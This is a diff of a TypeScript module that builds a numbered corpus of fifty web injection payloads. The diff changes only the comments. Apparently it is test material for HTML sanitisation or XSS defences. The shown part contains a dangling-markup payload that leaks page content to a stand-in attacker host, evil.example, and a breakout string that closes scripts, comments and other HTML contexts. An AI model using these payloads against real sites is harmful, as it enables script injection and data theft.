@@ -1,4 +1,4 @@
-/** A kind of stored script. In its code RUN stands for a script and EVIL for an address of somebody else. */
+/** A kind of stored script. In its code, RUN stands for a script and EVIL for an address of an attacker. */
 interface Attack {
   kind: string;
   code: string;
@@ -126,11 +126,11 @@ const SOURCES: Attack[] = [
   { kind: 'dangling markup', code: `<img src='EVIL/?` },
 ];
 
-/** Ends whatever an attack before it may have left open. */
+/** Closes every element that an earlier attack may have left open. */
 export const ENDS =
   '-->]]>"\'></script></style></title></textarea></noscript></template></select></table></svg></math></form> ';
 
-/** Fifty kinds, each with a number of its own in what it runs and asks for. */
+/** Fifty kinds; each runs and requests something with a number of its own. */
 export const ATTACKS: readonly Attack[] = SOURCES.map(({ kind, code }, number) => ({
   kind,
   code: code
@@ -138,12 +138,12 @@ export const ATTACKS: readonly Attack[] = SOURCES.map(({ kind, code }, number) =
     .replaceAll('EVIL', `https://evil.example/${number}`),
 }));
 
-/** The code of one of them; numbers beyond the last begin again. */
+/** The code of one attack; numbers after the last one start again. */
 export function attack(number: number): string {
   return ATTACKS[number % ATTACKS.length]?.code ?? '';
 }
 
-/** All of them in one text, beginning with this one. */
+/** All attacks in one text, beginning with this one. */
 export function allAttacks(first: number): string {
   return ATTACKS.map((_, place) => attack(first + place)).join(ENDS);
 }
